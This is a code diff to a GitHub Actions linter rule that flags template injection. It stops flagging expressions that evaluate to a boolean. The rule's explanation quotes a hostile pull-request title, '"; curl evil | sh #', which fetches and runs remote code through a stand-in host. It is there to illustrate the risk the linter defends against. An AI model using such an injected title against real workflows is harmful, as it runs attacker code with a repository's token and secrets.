@@ -6,7 +6,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged; other `github.event.*` fields are flagged with medium confidence.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -119,7 +119,9 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
             // One finding per expression text, at its first place, whose fix moves every place.
             let mut reported = HashSet::new();
             for e in cx.exprs_in(node) {
-                for (path, _, _) in e.parsed.paths() {
+                // Only what reaches the expanded text: `${{ github.event.label.name == 'x' }}`
+                // expands to `true` or `false`, whatever the label says.
+                for (path, _, _) in e.parsed.expanded_paths() {
                     let Some(confidence) = injection_risk(path) else { continue };
                     let written = e.base.map(|_| e.span.text(cx.src));
                     if !reported.insert(written.map_or_else(|| path.join("."), str::to_owned)) {
